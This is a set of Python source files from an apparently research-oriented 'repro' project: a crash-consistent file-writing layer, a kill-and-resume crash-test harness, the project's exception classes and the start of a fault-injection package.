#: every tmp file this layer creates matches ``.durability-*.tmp``
TMP_PREFIX = ".durability-"
TMP_SUFFIX = ".tmp"

#: stale-tmp GC default: anything older is a dead writer's residue
#: (in-flight writes live milliseconds; nothing legitimate is minutes
#: old)
DEFAULT_TMP_MAX_AGE_S = 300.0

#: the checksum key :class:`JournaledAppender` embeds per line;
#: always stripped on replay, never visible to findings digests
CRC_KEY = "_crc"

#: ``os._exit`` status for a simulated power loss; 137 == 128+SIGKILL,
#: what a real OOM-kill or ``kill -9`` reports
CRASH_EXIT_STATUS = 137


def mode(environ=None) -> str:
    """The active durability mode (``REPRO_DURABILITY``, validated)."""
    environ = os.environ if environ is None else environ
    value = environ.get("REPRO_DURABILITY", "").strip().lower()
    if not value:
        return DEFAULT_MODE
    if value not in MODES:
        warnings.warn(f"REPRO_DURABILITY={value!r} is not one of "
                      f"{'/'.join(MODES)}; using {DEFAULT_MODE!r}",
                      RuntimeWarning)
        return DEFAULT_MODE
    return value


def _count(name: str, value: int = 1, **labels) -> None:
    # lazy: repro.metrics -> collectors -> perfcache -> durability cycle
    from repro import metrics
    metrics.count("durability", name, value, **labels)


def _trace_recovery(name: str, **args) -> None:
    from repro import trace
    if "durability" in trace.active_categories:
        trace.emit("durability", name, **args)


# -- crash points -------------------------------------------------------------

#: per-site poke counts for this process (1-based at comparison time)
_crash_counts: dict = {}

_crash_armed: tuple | None = None      # (site, nth) from REPRO_CRASH
_crash_env_loaded = False


def parse_crash_env(value: str) -> tuple[str, int]:
    """Parse ``REPRO_CRASH``'s ``<site>@<N>`` form (N is 1-based)."""
    site, sep, nth = value.partition("@")
    site = site.strip()
    if not sep or site not in faults.SITES \
            or not site.startswith("durability."):
        raise ValueError(f"REPRO_CRASH={value!r}: expected "
                         f"<durability-site>@<N>")
    count = int(nth)
    if count < 1:
        raise ValueError(f"REPRO_CRASH={value!r}: N must be >= 1")
    return site, count


def _load_crash_env() -> tuple | None:
    global _crash_armed, _crash_env_loaded
    if _crash_env_loaded:
        return _crash_armed
    _crash_env_loaded = True
    value = os.environ.get("REPRO_CRASH", "").strip()
    if value:
        _crash_armed = parse_crash_env(value)
    census = os.environ.get("REPRO_CRASH_CENSUS", "").strip()
    if census:
        pid = os.getpid()

        def _write_census() -> None:
            # direct write on purpose: the census must not poke the
            # crash points it is counting, and forked children (which
            # skip atexit anyway) must never clobber the parent's file
            if os.getpid() != pid:
                return
            with open(census, "w", encoding="utf-8") as handle:
                json.dump(crash_counts(), handle, sort_keys=True)

        atexit.register(_write_census)
    return _crash_armed


def disarm_crash_points() -> None:
    """Drop any ``REPRO_CRASH`` arming in this process.

    Campaign worker processes call this from their initializer so a
    crashtest kill lands deterministically in the coordinating
    process; worker-side crash chaos already has its own sites
    (``campaign.worker.crash`` / ``campaign.batch.crash``).
    """
    global _crash_armed, _crash_env_loaded
    os.environ.pop("REPRO_CRASH", None)
    os.environ.pop("REPRO_CRASH_CENSUS", None)
    _crash_armed = None
    _crash_env_loaded = True


def crash_counts() -> dict:
    """Per-site poke counts so far in this process (census view)."""
    return dict(sorted(_crash_counts.items()))


def _reset_crash_state_for_tests() -> None:
    global _crash_armed, _crash_env_loaded
    _crash_counts.clear()
    _crash_armed = None
    _crash_env_loaded = False


def _armed(site: str) -> bool:
    """Cheap pre-check: could poking *site* possibly fire?"""
    armed = _load_crash_env()
    if armed is not None and armed[0] == site:
        return True
    return site in faults.active_sites


def _poke(site: str) -> None:
    """Advance *site*'s counter; kill or raise when a crash is armed.

    The counter advances unconditionally, so an unarmed (census) run
    and an armed (kill) run see identical numbering -- that is what
    makes ``<site>@<N>`` deterministic.
    """
    count = _crash_counts.get(site, 0) + 1
    _crash_counts[site] = count
    armed = _load_crash_env()
    if armed is not None and armed[0] == site and armed[1] == count:
        os._exit(CRASH_EXIT_STATUS)
    if site in faults.active_sites:
        firing = faults.fires(site)
        if firing is not None:
            if firing.action == "kill":
                os._exit(CRASH_EXIT_STATUS)
            raise faults.InjectedDurabilityCrash(site)


# -- atomic writes ------------------------------------------------------------


def _fsync_dir(directory: str) -> None:
    fd = os.open(directory or ".", os.O_RDONLY)
    try:
        os.fsync(fd)
    finally:
        os.close(fd)
    _count("fsyncs")


def atomic_write_bytes(path: str, data: bytes) -> str:
    """Write *data* to *path* under the active durability mode.

    ``atomic``/``fsync`` go through a same-directory tmp file and
    ``os.replace``; a crash at any point leaves either the old
    complete file or the new complete file, never a torn one (plus,
    at worst, one ``.durability-*.tmp`` for GC). ``fsync`` also syncs
    the file and its parent directory. ``off`` writes in place.
    """
    parent = os.path.dirname(path)
    if parent:
        os.makedirs(parent, exist_ok=True)
    active = mode()
    if active == "off":
        with open(path, "wb") as handle:
            handle.write(data)
        _poke("durability.post_write")
        _count("writes")
        return path
    fd, tmp = tempfile.mkstemp(dir=parent or ".", prefix=TMP_PREFIX,
                               suffix=TMP_SUFFIX)
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
            handle.flush()
            _poke("durability.post_write")
            if active == "fsync":
                os.fsync(handle.fileno())
                _count("fsyncs")
        _poke("durability.pre_replace")
        os.replace(tmp, path)
        _poke("durability.post_replace")
        if active == "fsync":
            _fsync_dir(parent)
    except faults.InjectedDurabilityCrash:
        # a simulated crash leaves its residue (the tmp file), exactly
        # like the power loss it stands in for; GC collects it later
        raise
    except BaseException:
        try:
            os.unlink(tmp)
        except OSError:
            pass
        raise
    _count("writes")
    return path


def atomic_write_text(path: str, text: str) -> str:
    return atomic_write_bytes(path, text.encode("utf-8"))


def atomic_write_json(path: str, doc, *, indent=None, sort_keys=False,
                      separators=None, trailing_newline=False) -> str:
    """Serialize *doc* and write it atomically.

    The JSON knobs default to :func:`json.dump`'s, so every routed
    writer keeps producing byte-identical file content -- only the
    path to disk changed.
    """
    text = json.dumps(doc, indent=indent, sort_keys=sort_keys,
                      separators=separators)
    if trailing_newline:
        text += "\n"
    return atomic_write_text(path, text)


# -- journaled JSONL append streams -------------------------------------------


def _canonical(record: dict) -> str:
    return json.dumps(record, sort_keys=True, separators=(",", ":"))


def seal_record(record: dict) -> dict:
    """A copy of *record* carrying its CRC32 under :data:`CRC_KEY`."""
    payload = {key: value for key, value in record.items()
               if key != CRC_KEY}
    crc = zlib.crc32(_canonical(payload).encode("utf-8"))
    payload[CRC_KEY] = f"{crc & 0xffffffff:08x}"
    return payload


def validate_record(record: dict) -> dict | None:
    """Strip and verify a record's checksum.

    Returns the record without :data:`CRC_KEY` when the checksum
    matches or is absent (pre-durability lines never carried one);
    None when a checksum is present but wrong -- a line that parsed as
    JSON yet was bit-flipped on disk.
    """
    if not isinstance(record, dict):
        return None
    crc = record.get(CRC_KEY)
    if crc is None:
        return record
    payload = {key: value for key, value in record.items()
               if key != CRC_KEY}
    expected = zlib.crc32(_canonical(payload).encode("utf-8"))
    if crc != f"{expected & 0xffffffff:08x}":
        return None
    return payload


def append_jsonl(path: str, record: dict, *, checksum: bool = True) -> None:
    """Append one record as a JSONL line, crash-consistently.

    The newline guard first repairs a torn tail left by a previous
    crash (gluing onto it would destroy this record too); the line
    itself is written through the ``mid_append``/``post_append`` crash
    points; ``fsync`` mode syncs after every append.
    """
    parent = os.path.dirname(path)
    if parent:
        os.makedirs(parent, exist_ok=True)
    payload = seal_record(record) if checksum \
        else {key: value for key, value in record.items()
              if key != CRC_KEY}
    line = json.dumps(payload, sort_keys=True) + "\n"
    needs_newline = False
    try:
        if os.path.getsize(path):
            with open(path, "rb") as handle:
                handle.seek(-1, os.SEEK_END)
                needs_newline = handle.read(1) != b"\n"
    except OSError:
        pass
    with open(path, "a", encoding="utf-8") as handle:
        if needs_newline:
            handle.write("\n")
        if _armed("durability.mid_append"):
            # leave a genuinely torn line when the point fires: write
            # half, flush so the bytes reach the file, then poke
            half = max(1, len(line) // 2)
            handle.write(line[:half])
            handle.flush()
            _poke("durability.mid_append")
            handle.write(line[half:])
        else:
            _poke("durability.mid_append")
            handle.write(line)
        handle.flush()
        _poke("durability.post_append")
        if mode() == "fsync":
            os.fsync(handle.fileno())
            _count("fsyncs")
    _count("appends")


def replay_jsonl(path: str, *, on_bad_line=None,
                 warn: bool = False) -> list[tuple[int, dict]]:
    """Read a journaled JSONL stream back as ``(lineno, record)`` rows.

    Checksums are verified and stripped; lines that fail to parse or
    to verify are skipped via *on_bad_line(lineno, line)* (the
    resume-tolerance contract) and counted. A bad **trailing** line is
    the interrupted-append case: it is additionally counted as a
    healed torn tail, traced, and -- with ``warn=True`` -- surfaced as
    one :class:`UserWarning` naming its byte offset, matching
    ``trace.export.load_jsonl``.
    """
    rows: list[tuple[int, dict]] = []
    try:
        with open(path, encoding="utf-8") as handle:
            lines = handle.readlines()
    except FileNotFoundError:
        return rows
    offset = 0
    for index, raw in enumerate(lines):
        line = raw.strip()
        if line:
            record = None
            try:
                record = validate_record(json.loads(line))
            except ValueError:
                record = None
            if record is None:
                trailing = all(not rest.strip()
                               for rest in lines[index + 1:])
                if trailing:
                    _count("torn_tails_healed")
                    _count("recoveries", kind="torn_tail")
                    _trace_recovery("torn_tail_healed", path=path,
                                    byte=offset)
                    if warn:
                        warnings.warn(
                            f"{path}: dropped torn trailing line at "
                            f"byte {offset} "
                            f"({len(raw.encode('utf-8'))} bytes); the "
                            f"stream was interrupted mid-append")
                if on_bad_line is not None:
                    on_bad_line(index + 1, line)
            else:
                rows.append((index + 1, record))
        offset += len(raw.encode("utf-8"))
    return rows


class JournaledAppender:
    """A checksummed append-only JSONL stream bound to one path."""

    def __init__(self, path: str, *, checksum: bool = True) -> None:
        self.path = path
        self.checksum = checksum

    def append(self, record: dict) -> None:
        append_jsonl(self.path, record, checksum=self.checksum)

    def replay(self, *, on_bad_line=None,
               warn: bool = False) -> list[dict]:
        return [record for _lineno, record
                in replay_jsonl(self.path, on_bad_line=on_bad_line,
                                warn=warn)]


# -- residue management -------------------------------------------------------


def collect_stale_tmp(directory: str, *,
                      max_age_s: float = DEFAULT_TMP_MAX_AGE_S,
                      now: float | None = None) -> list[str]:
    """Remove dead writers' ``.durability-*.tmp`` residue.

    Only files matching this layer's naming scheme and older than
    *max_age_s* are touched -- an in-flight write of a *live* process
    is seconds old at most, so the default margin can never race one.
    Returns the removed paths.
    """
    if now is None:
        now = time.time()
    removed: list[str] = []
    try:
        names = os.listdir(directory)
    except OSError:
        return removed
    for name in sorted(names):
        if not (name.startswith(TMP_PREFIX) and name.endswith(TMP_SUFFIX)):
            continue
        path = os.path.join(directory, name)
        try:
            age = now - os.stat(path).st_mtime
            if age < max_age_s:
                continue
            os.unlink(path)
        except OSError:
            continue
        removed.append(path)
        _count("tmp_files_collected")
        _trace_recovery("tmp_collected", path=path)
    return removed


def truncate_file(path: str, offset: int) -> int:
    """Chop *path* at byte *offset* -- the torn-write simulator.

    Used by the crashtest harness (and the recovery property tests)
    to model a write the storage stack tore mid-stream. Returns the
    resulting size.
    """
    if offset < 0:
        raise ValueError(f"negative truncation offset {offset}")
    with open(path, "rb+") as handle:
        handle.truncate(offset)
    return offset
