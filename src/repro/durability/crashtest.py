"""The ``repro-dma crashtest`` harness: kill at every write, recover.

PR 5's chaos engine proved findings survive *recoverable* faults; this
harness proves they survive **power loss**. The plan:

1. **Census** -- run a small campaign subprocess to completion with
   ``REPRO_CRASH_CENSUS`` armed, so it reports how many times each
   ``durability.*`` crash point is poked. That run also yields the
   ground truth: the uninterrupted findings digest and coverage-map
   digest.
2. **Kill matrix** -- for every reachable crash point (site x step,
   sampled per ``max_per_site``), run a fresh campaign with
   ``REPRO_CRASH=<site>@<N>`` and confirm the process actually died
   there (exit status 137). Then re-run the identical command with
   ``--resume`` and assert the recovery invariants:

   * the resume exits 0;
   * every artifact loads (results JSONL, coverage map);
   * no seed is lost or double-counted (each seed has exactly one
     completed record);
   * findings digest and coverage digest are **byte-identical** to
     the uninterrupted run;
   * after stale-tmp GC, no ``.durability-*.tmp`` residue remains.

3. **Torn-write matrix** -- copy the uninterrupted run's artifacts,
   truncate each at sampled byte offsets (the
   :func:`~repro.durability.truncate_file` simulator), resume, and
   assert the same invariants. This covers corruption the atomic
   writes make "impossible" -- which is exactly why it must be tested.

Everything runs in subprocesses: ``os._exit`` kills are real, resume
starts from a cold process, and the coordinating test process is never
at risk.
"""

from __future__ import annotations

import glob
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field

from repro import durability
from repro.campaign.results import (completed_seeds, findings_digest,
                                    load_records)
from repro.coverage import CoverageMap, coverage_map_path
from repro.errors import CampaignError

#: crash sites the harness enumerates (census order is sorted anyway)
CRASH_SITES = ("durability.post_write", "durability.pre_replace",
               "durability.post_replace", "durability.mid_append",
               "durability.post_append")


@dataclass
class CrashtestConfig:
    """One crashtest invocation's knobs (kept tiny by default: the
    harness runs O(sites x steps) full campaign subprocesses)."""

    seeds: int = 2
    scale: float = 0.08
    jobs: int = 1
    mutations: int = 3
    trace_events: int = 16
    backend: str | None = None
    #: crash steps exercised per site (first/last/evenly spread)
    max_per_site: int = 2
    #: restrict to these sites (None = every reachable site)
    sites: tuple | None = None
    #: hard cap on kill points across all sites (chaos smoke mode)
    max_points: int | None = None
    #: byte offsets truncated per artifact in the torn-write matrix
    torn_offsets: int = 4
    timeout_s: float = 600.0


@dataclass
class PointOutcome:
    """One (site, step) kill-and-resume cycle."""

    site: str
    step: int
    killed: bool = False
    resumed_ok: bool = False
    findings_match: bool = False
    coverage_match: bool = False
    seeds_intact: bool = False
    clean_tmp: bool = False
    detail: str = ""

    @property
    def ok(self) -> bool:
        return (self.killed and self.resumed_ok and self.findings_match
                and self.coverage_match and self.seeds_intact
                and self.clean_tmp)


@dataclass
class TornOutcome:
    """One artifact truncated at one byte offset, then recovered."""

    artifact: str
    offset: int
    size: int
    resumed_ok: bool = False
    findings_match: bool = False
    coverage_match: bool = False
    detail: str = ""

    @property
    def ok(self) -> bool:
        return (self.resumed_ok and self.findings_match
                and self.coverage_match)


@dataclass
class CrashtestReport:
    config: CrashtestConfig = field(default_factory=CrashtestConfig)
    baseline_findings_digest: str = ""
    baseline_coverage_digest: str = ""
    census: dict = field(default_factory=dict)
    points: list = field(default_factory=list)
    torn: list = field(default_factory=list)
    error: str | None = None

    @property
    def nr_points_ok(self) -> int:
        return sum(1 for point in self.points if point.ok)

    @property
    def nr_torn_ok(self) -> int:
        return sum(1 for torn in self.torn if torn.ok)

    @property
    def ok(self) -> bool:
        return (self.error is None and bool(self.points)
                and all(point.ok for point in self.points)
                and all(torn.ok for torn in self.torn))


def _campaign_argv(config: CrashtestConfig, rundir: str, *,
                   resume: bool = False) -> list[str]:
    argv = [sys.executable, "-m", "repro.cli", "campaign",
            "--seeds", str(config.seeds),
            "--scale", str(config.scale),
            "--jobs", str(config.jobs),
            "--mutations", str(config.mutations),
            "--trace-events", str(config.trace_events),
            "--output", os.path.join(rundir, "results.jsonl"),
            "--cache-dir", os.path.join(rundir, "cache"),
            "--heartbeat-dir", os.path.join(rundir, "heartbeats")]
    if config.backend:
        argv += ["--backend", config.backend]
    if resume:
        argv.append("--resume")
    return argv


def _run(argv: list[str], *, env: dict,
         timeout_s: float) -> subprocess.CompletedProcess:
    """Run *argv* in its own process group, output to a temp file.

    A campaign coordinator killed at a crash point leaves its pool
    workers orphaned but still holding the inherited stdout fd, so a
    pipe would never reach EOF and ``subprocess.run`` would hang.
    Waiting on the direct child only, then SIGKILLing its whole process
    group, both unblocks the harness and reaps those orphans before the
    resume run touches the same run directory.
    """
    timed_out = False
    with tempfile.TemporaryFile() as captured:
        proc = subprocess.Popen(argv, env=env, stdin=subprocess.DEVNULL,
                                stdout=captured,
                                stderr=subprocess.STDOUT,
                                start_new_session=True)
        try:
            returncode = proc.wait(timeout=timeout_s)
        except subprocess.TimeoutExpired:
            timed_out = True
            returncode = None
        finally:
            try:
                os.killpg(proc.pid, signal.SIGKILL)
            except (ProcessLookupError, PermissionError):
                pass
            proc.wait()
        if returncode is None:
            returncode = proc.returncode
        captured.seek(0)
        stdout = captured.read().decode("utf-8", errors="replace")
    if timed_out:
        stdout += f"\n[crashtest: killed after {timeout_s:g}s timeout]\n"
    return subprocess.CompletedProcess(argv, returncode, stdout=stdout)


def _base_env() -> dict:
    env = dict(os.environ)
    env.pop("REPRO_CRASH", None)
    env.pop("REPRO_CRASH_CENSUS", None)
    env.pop("REPRO_FAULTS", None)
    return env


def _digests(rundir: str) -> tuple[str, str, str | None]:
    """(findings digest, coverage digest, error-or-None) of a run dir."""
    results = os.path.join(rundir, "results.jsonl")
    bad: list[int] = []
    records = load_records(results,
                           on_bad_line=lambda lineno, _l: bad.append(lineno))
    try:
        cover = CoverageMap.load(coverage_map_path(results))
    except (OSError, CampaignError) as exc:
        return findings_digest(records), "", f"coverage map: {exc}"
    return findings_digest(records), cover.digest, None


def _seed_integrity(rundir: str, nr_seeds: int) -> str | None:
    """None when every seed has exactly one completed record."""
    results = os.path.join(rundir, "results.jsonl")
    ok_lines: dict[int, int] = {}
    for _lineno, record in durability.replay_jsonl(results):
        if record.get("status") == "ok" and "seed" in record:
            ok_lines[record["seed"]] = ok_lines.get(record["seed"], 0) + 1
    expected = set(range(1, nr_seeds + 1))
    done = completed_seeds(load_records(results))
    if done != expected:
        lost = sorted(expected - done)
        extra = sorted(done - expected)
        return f"seeds lost={lost} unexpected={extra}"
    doubled = {seed: count for seed, count in ok_lines.items()
               if count > 1}
    if doubled:
        return f"seeds double-counted: {doubled}"
    return None


def _collect_residue(rundir: str) -> tuple[int, list[str]]:
    """Force-GC every durability tmp under *rundir*; returns the count
    collected and any that survived (there must be none)."""
    collected = 0
    for directory, _dirs, _files in os.walk(rundir):
        collected += len(durability.collect_stale_tmp(directory,
                                                      max_age_s=0.0))
    leftover = glob.glob(os.path.join(
        rundir, "**", f"{durability.TMP_PREFIX}*{durability.TMP_SUFFIX}"),
        recursive=True)
    return collected, leftover


def _pick_steps(count: int, max_per_site: int) -> list[int]:
    """First, last, and evenly spread steps -- at most *max_per_site*."""
    if count <= max_per_site:
        return list(range(1, count + 1))
    if max_per_site == 1:
        return [1]
    picks = {round(1 + index * (count - 1) / (max_per_site - 1))
             for index in range(max_per_site)}
    return sorted(picks)


def _run_point(config: CrashtestConfig, scratch: str, site: str,
               step: int, baseline: tuple[str, str]) -> PointOutcome:
    outcome = PointOutcome(site=site, step=step)
    rundir = os.path.join(scratch,
                          f"point-{site.replace('.', '-')}-{step}")
    os.makedirs(rundir, exist_ok=True)
    env = _base_env()
    env["REPRO_CRASH"] = f"{site}@{step}"
    killed = _run(_campaign_argv(config, rundir), env=env,
                  timeout_s=config.timeout_s)
    outcome.killed = killed.returncode == durability.CRASH_EXIT_STATUS
    if not outcome.killed:
        outcome.detail = (f"expected exit "
                          f"{durability.CRASH_EXIT_STATUS} at "
                          f"{site}@{step}, got {killed.returncode}")
        return outcome
    resumed = _run(_campaign_argv(config, rundir, resume=True),
                   env=_base_env(), timeout_s=config.timeout_s)
    outcome.resumed_ok = resumed.returncode == 0
    if not outcome.resumed_ok:
        outcome.detail = (f"resume exited {resumed.returncode}: "
                          f"{resumed.stdout[-400:]}")
        return outcome
    findings, coverage, error = _digests(rundir)
    outcome.findings_match = findings == baseline[0]
    outcome.coverage_match = coverage == baseline[1]
    integrity = _seed_integrity(rundir, config.seeds)
    outcome.seeds_intact = integrity is None
    _collected, leftover = _collect_residue(rundir)
    outcome.clean_tmp = not leftover
    details = []
    if error:
        details.append(error)
    if not outcome.findings_match:
        details.append(f"findings {findings[:16]} != "
                       f"baseline {baseline[0][:16]}")
    if not outcome.coverage_match:
        details.append(f"coverage {coverage[:16]} != "
                       f"baseline {baseline[1][:16]}")
    if integrity:
        details.append(integrity)
    if leftover:
        details.append(f"tmp residue survived GC: {leftover}")
    outcome.detail = "; ".join(details)
    return outcome


def _torn_offsets(size: int, nr: int) -> list[int]:
    """Sampled truncation offsets: spread over the file, biased to the
    tail (where an interrupted append tears), never the full size."""
    if size <= 1 or nr <= 0:
        return []
    candidates = {size - 1, size // 2, 1}
    index = 2
    while len(candidates) < nr and index <= nr:
        candidates.add(max(1, size - index * 7))
        index += 1
    return sorted(offset for offset in candidates
                  if 0 < offset < size)[:nr]


def _run_torn(config: CrashtestConfig, scratch: str, baseline_dir: str,
              artifact: str, offset: int,
              baseline: tuple[str, str]) -> TornOutcome:
    source = os.path.join(baseline_dir, artifact)
    size = os.path.getsize(source)
    outcome = TornOutcome(artifact=artifact, offset=offset, size=size)
    rundir = os.path.join(
        scratch, f"torn-{artifact.replace('/', '-')}-{offset}")
    shutil.copytree(baseline_dir, rundir)
    durability.truncate_file(os.path.join(rundir, artifact), offset)
    resumed = _run(_campaign_argv(config, rundir, resume=True),
                   env=_base_env(), timeout_s=config.timeout_s)
    outcome.resumed_ok = resumed.returncode == 0
    if not outcome.resumed_ok:
        outcome.detail = (f"resume exited {resumed.returncode}: "
                          f"{resumed.stdout[-400:]}")
        return outcome
    findings, coverage, error = _digests(rundir)
    outcome.findings_match = findings == baseline[0]
    outcome.coverage_match = coverage == baseline[1]
    details = []
    if error:
        details.append(error)
    if not outcome.findings_match:
        details.append(f"findings {findings[:16]} != "
                       f"baseline {baseline[0][:16]}")
    if not outcome.coverage_match:
        details.append(f"coverage {coverage[:16]} != "
                       f"baseline {baseline[1][:16]}")
    outcome.detail = "; ".join(details)
    return outcome


def run_crashtest(config: CrashtestConfig, scratch: str | None = None,
                  *, log=lambda _msg: None) -> CrashtestReport:
    """Run the full kill-at-every-write matrix; see the module doc."""
    report = CrashtestReport(config=config)
    owns_scratch = scratch is None
    if owns_scratch:
        scratch = tempfile.mkdtemp(prefix="repro-crashtest-")
    try:
        baseline_dir = os.path.join(scratch, "baseline")
        os.makedirs(baseline_dir, exist_ok=True)
        census_path = os.path.join(scratch, "census.json")
        env = _base_env()
        env["REPRO_CRASH_CENSUS"] = census_path
        log("crashtest: uninterrupted baseline campaign "
            "(census armed)...")
        baseline_run = _run(_campaign_argv(config, baseline_dir),
                            env=env, timeout_s=config.timeout_s)
        if baseline_run.returncode != 0:
            report.error = (f"baseline campaign exited "
                            f"{baseline_run.returncode}: "
                            f"{baseline_run.stdout[-400:]}")
            return report
        try:
            with open(census_path, encoding="utf-8") as handle:
                census = json.load(handle)
        except (OSError, ValueError) as exc:
            report.error = f"census unreadable: {exc}"
            return report
        report.census = {site: count for site, count
                         in sorted(census.items())
                         if site.startswith("durability.")}
        if not report.census:
            report.error = "census empty: no durability crash point " \
                           "was poked -- writers are not routed"
            return report
        findings, coverage, error = _digests(baseline_dir)
        if error:
            report.error = f"baseline artifacts: {error}"
            return report
        report.baseline_findings_digest = findings
        report.baseline_coverage_digest = coverage
        baseline = (findings, coverage)

        sites = config.sites or tuple(report.census)
        nr_points = 0
        for site in sites:
            count = report.census.get(site, 0)
            for step in _pick_steps(count, config.max_per_site):
                if config.max_points is not None \
                        and nr_points >= config.max_points:
                    break
                nr_points += 1
                log(f"crashtest: kill at {site}@{step} "
                    f"(of {count}) + resume...")
                report.points.append(
                    _run_point(config, scratch, site, step, baseline))

        artifacts = ["results.jsonl",
                     os.path.basename(coverage_map_path(
                         os.path.join(baseline_dir, "results.jsonl")))]
        for artifact in artifacts:
            source = os.path.join(baseline_dir, artifact)
            if not os.path.exists(source):
                continue
            size = os.path.getsize(source)
            for offset in _torn_offsets(size, config.torn_offsets):
                log(f"crashtest: truncate {artifact} at byte "
                    f"{offset}/{size} + resume...")
                report.torn.append(
                    _run_torn(config, scratch, baseline_dir, artifact,
                              offset, baseline))
        return report
    finally:
        if owns_scratch:
            shutil.rmtree(scratch, ignore_errors=True)


def format_crashtest_report(report: CrashtestReport) -> str:
    lines = [f"crashtest: {report.config.seeds} seed(s) at scale "
             f"{report.config.scale}, jobs={report.config.jobs}"]
    if report.error:
        lines.append(f"crashtest: ERROR: {report.error}")
        lines.append("crashtest verdict: FAIL")
        return "\n".join(lines)
    lines.append(f"baseline findings digest: "
                 f"{report.baseline_findings_digest[:16]}")
    lines.append(f"baseline coverage digest: "
                 f"{report.baseline_coverage_digest[:16]}")
    lines.append(f"crash points reachable "
                 f"({len(report.census)} site(s)):")
    for site, count in report.census.items():
        lines.append(f"  {site} poked x{count}")
    lines.append(f"kill+resume matrix: {report.nr_points_ok}"
                 f"/{len(report.points)} point(s) recovered "
                 f"byte-identically")
    for point in report.points:
        status = "ok" if point.ok else "FAIL"
        extra = f" ({point.detail})" if point.detail else ""
        lines.append(f"  {point.site}@{point.step}: {status}{extra}")
    if report.torn:
        lines.append(f"torn-write matrix: {report.nr_torn_ok}"
                     f"/{len(report.torn)} truncation(s) recovered")
        for torn in report.torn:
            status = "ok" if torn.ok else "FAIL"
            extra = f" ({torn.detail})" if torn.detail else ""
            lines.append(f"  {torn.artifact} @ byte "
                         f"{torn.offset}/{torn.size}: {status}{extra}")
    lines.append(f"crashtest verdict: {'PASS' if report.ok else 'FAIL'}")
    return "\n".join(lines)
