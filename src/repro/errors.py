"""Exception hierarchy shared across all repro subsystems.

Every subsystem raises subclasses of :class:`ReproError` so callers can
catch simulation faults without accidentally swallowing programming errors.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all errors raised by the repro library."""


class MemoryError_(ReproError):
    """Base class for physical/virtual memory errors."""


class BadAddressError(MemoryError_):
    """An address is outside the modeled physical or virtual range."""


class OutOfMemoryError(MemoryError_):
    """The allocator cannot satisfy the request."""


class AllocatorError(MemoryError_):
    """Misuse of an allocator (double free, bad pointer, bad size)."""


class TranslationFault(ReproError):
    """A virtual address could not be translated.

    Raised both for CPU-side KVA translation failures and for device-side
    IOVA translation failures (IOMMU fault).
    """


class IommuFault(TranslationFault):
    """The IOMMU rejected a device access (no mapping or bad permission).

    Mirrors a VT-d DMA remapping fault: the device access is aborted and
    the fault is logged; the device observes the failure.
    """

    def __init__(self, message: str, *, iova: int | None = None,
                 device: str | None = None) -> None:
        super().__init__(message)
        self.iova = iova
        self.device = device


class DmaApiError(ReproError):
    """Misuse of the DMA API (unmap of unknown IOVA, bad direction...)."""


class NxViolation(ReproError):
    """The CPU attempted to fetch instructions from a non-executable page.

    Models the page-fault raised when the NX bit is set on the page the
    instruction pointer landed in (W^X / DEP, section 2.4 of the paper).
    """

    def __init__(self, message: str, *, address: int | None = None) -> None:
        super().__init__(message)
        self.address = address


class ExecutionFault(ReproError):
    """The ROP/JOP interpreter hit an undecodable or illegal state."""


class ControlFlowViolation(ExecutionFault):
    """A CET-style mitigation rejected an indirect branch or return."""


class NetStackError(ReproError):
    """Network-stack substrate misuse (bad skb state, ring overflow...)."""


class CorpusError(ReproError):
    """The corpus generator or its manifest hit an inconsistent state."""


class AnalysisError(ReproError):
    """SPADE failed to parse or index a source file it must understand."""


class TraceError(ReproError):
    """Flight-recorder misuse (bad category, mismatched span close)."""


class MetricsError(ReproError):
    """Metrics-registry misuse (instrument kind collision, bad label,
    negative counter increment, double install)."""


class FaultError(ReproError):
    """Fault-engine misuse (unknown site, bad trigger, double install,
    unreadable ``REPRO_FAULTS`` plan)."""


class BackendError(ReproError):
    """Unknown or invalid IOMMU backend model.

    The single error path shared by every ``--backend`` consumer (CLI
    exit code 2) and the serve protocol's ``backend`` request field.
    """


class ServeError(ReproError):
    """Analysis-server misuse or protocol violation (malformed NDJSON
    request, unknown request type, oversized line, exhausted retry
    budget against a rejecting/aborting daemon)."""


class CampaignError(ReproError):
    """A differential-fuzzing campaign hit an inconsistent state.

    Raised for unknown mutation kinds, mutations that desynchronize a
    tree from its manifest, and shrink predicates that do not hold on
    the full mutation list.
    """


class AttackFailed(ReproError):
    """An attack step could not complete.

    Attacks are expected to fail under effective defenses; this exception
    carries the stage that failed so experiments can report *where* a
    defense stopped the attack.
    """

    def __init__(self, message: str, *, stage: str | None = None) -> None:
        super().__init__(message)
        self.stage = stage
