"""repro.faults -- deterministic fault injection for the whole stack.

The simulated kernel and the tooling around it only ever exercised the
happy path: allocations never fail, the cache store is never corrupt,
a crashed campaign worker silently lost its seed. This package is the
chaos layer that fixes that, in the spirit of DICE / DyMA-Fuzz
(PAPERS.md): adversarial peripheral and environment behavior is what
surfaces the interesting states.

Usage mirrors :mod:`repro.trace` and :mod:`repro.metrics`:

* a module-global engine -- :func:`install` / :func:`uninstall` /
  :func:`session` -- holds at most one active :class:`FaultPlan`;
* hot paths guard with the hoistable membership test
  ``"mem.slab.kmalloc" in faults.active_sites`` before paying the
  :func:`fires` call, so an inactive engine costs one frozenset probe;
* every triggered fault emits a ``fault``-category trace event and a
  ``repro_faults_injected_total{site=...}`` metrics counter, so the
  existing observability stack sees the chaos.

Injected failures are raised as subclasses of the error the real code
path would produce (``InjectedOutOfMemory`` is an ``OutOfMemoryError``,
``InjectedDmaMapError`` is a ``DmaApiError``, ...) tagged with
``.site`` -- existing recovery handles them naturally, and anything
that escapes names the offending site.

``REPRO_FAULTS=<plan.json>`` points the CLI at a fault plan file;
``REPRO_FAULTS=off`` (or empty) disables it.
"""

from __future__ import annotations

import json
import os
from collections import Counter
from contextlib import contextmanager

from repro import trace
from repro.errors import (CampaignError, DmaApiError, FaultError,
                          OutOfMemoryError)
from repro.faults.spec import (KERNEL_SITES, SITES, TOOLING_SITES,
                               FaultPlan, FaultSpec, Firing, SiteRule,
                               standard_spec)

__all__ = [
    "KERNEL_SITES", "SITES", "TOOLING_SITES",
    "FaultPlan", "FaultSpec", "Firing", "SiteRule",
    "InjectedCacheError", "InjectedDmaMapError",
    "InjectedDurabilityCrash", "InjectedFault",
    "InjectedOutOfMemory", "InjectedWorkerCrash",
    "active", "active_sites", "fired_counts", "fires", "install",
    "reset_fired_counts", "session", "spec_from_env", "standard_spec",
    "uninstall",
]


class InjectedFault(Exception):
